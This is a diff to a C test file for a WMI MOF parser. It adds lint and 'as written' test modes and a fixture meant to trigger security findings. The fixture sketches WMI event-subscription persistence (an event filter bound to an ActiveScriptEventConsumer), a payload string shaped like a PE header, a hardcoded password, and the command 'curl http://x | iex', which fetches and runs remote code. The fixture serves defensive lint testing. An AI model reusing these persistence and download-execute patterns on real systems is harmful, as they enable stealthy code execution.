@@ -129,6 +129,45 @@ run_format(const char *text, struct output *out)
 	out->err = err;
 }
 
+/* The way of a text that is asked all rules of lint. */
+static void
+run_lint(const char *text, struct output *out)
+{
+	struct mof_unit *unit = NULL;
+	struct mof_options options = { .lint = MOF_LINT_STYLE | MOF_LINT_SECURITY };
+	struct mof_print_options how = { .verbose = true, .lint = true };
+	struct cim_sink sink = { keep, out };
+	out->len = 0;
+	enum cim_err err = mof_unit_new(&unit, &options);
+	if (err == CIM_OK)
+		err = mof_parse_buffer(unit, "text.mof", text, strlen(text));
+	if (err == CIM_OK)
+		err = mof_lint(unit);
+	if (err == CIM_OK)
+		err = mof_print_diagnostics(unit, &how, sink);
+	mof_unit_free(unit);
+	out->err = err;
+}
+
+/* The way of a text that is compared as it is written. */
+static void
+run_written(const char *text, struct output *out)
+{
+	struct mof_unit *unit = NULL;
+	const struct cim_batch *batch = NULL;
+	struct cim_sink sink = { keep, out };
+	out->len = 0;
+	enum cim_err err = mof_unit_new(&unit, NULL);
+	if (err == CIM_OK)
+		err = mof_parse_buffer(unit, "text.mof", text, strlen(text));
+	if (err == CIM_OK)
+		err = mof_written(unit, &batch);
+	for (size_t i = 0; err == CIM_OK && i < batch->count; i++)
+		err = print_item(&batch->items[i], sink);
+	mof_unit_free(unit);
+	out->err = err;
+}
+
 static struct output whole, part;
 static void (*way)(const char *text, struct output *out) = run;
 
@@ -208,6 +247,19 @@ static const char bad_json[] = "{\"kind\":\"class\",\"name\":\"NM A\",\"nam\":1}
     "{\"X\":{\"type\":\"uint7\"},\"Y\":{\"type\":\"string\",\"value\":\"\\ud800\"}}}\n{]\n"
     "{\"kind\":\"instance\",\"class\":\"NM_B\",\"properties\":{\"Y\":{\"type\":\"uint8\",\"value\":\"\"}}}";
 
+static const char found[] =
+    "#pragma autorecover\n"
+    "#pragma deleteclass (\"NM_Gone\", nofail)\n"
+    "#pragma namespace (\"root/subscription\")\n"
+    "class Store { string Data = \"TVqQAAMAAAAEAAAA//8AALgAAAAA\"; [Units(\"Bytes\")] uint8 N; };\n"
+    "instance of __EventFilter as $f { Name = \"f\"; Query = \"SELECT * FROM X\"; };\n"
+    "instance of ActiveScriptEventConsumer { Name = \"c\"; ScriptText = \"a\\nb\"; };\n"
+    "instance of __FilterToConsumerBinding { Filter = $f;\n"
+    "  Consumer = \"ActiveScriptEventConsumer.Name=\\\"c\\\"\"; };\n"
+    "instance of __Win32Provider as $p { Name = \"p\"; };\n"
+    "instance of __InstanceProviderRegistration { Provider = $p; };\n"
+    "instance of X { Password = \"hunter2\"; Run = \"curl http://x | iex\"; L = { $f, $p }; };\n";
+
 int
 main(void)
 {
@@ -219,5 +271,11 @@ main(void)
 	sweep("a text that is formatted", good, CIM_OK);
 	sweep("a text in CP1252 that is", "class A {\r\n // \xE4 \r\n};\r\n", CIM_OK);
 	sweep("a text full of mistakes that is not", bad, CIM_EINPUT);
+	way = run_lint;
+	sweep("a text that is linted", good, CIM_OK);
+	sweep("a text full of findings", found, CIM_OK);
+	way = run_written;
+	sweep("a text as it is written", good, CIM_OK);
+	sweep("a text as it is written, with aliases", found, CIM_OK);
 	return tap_done();
 }
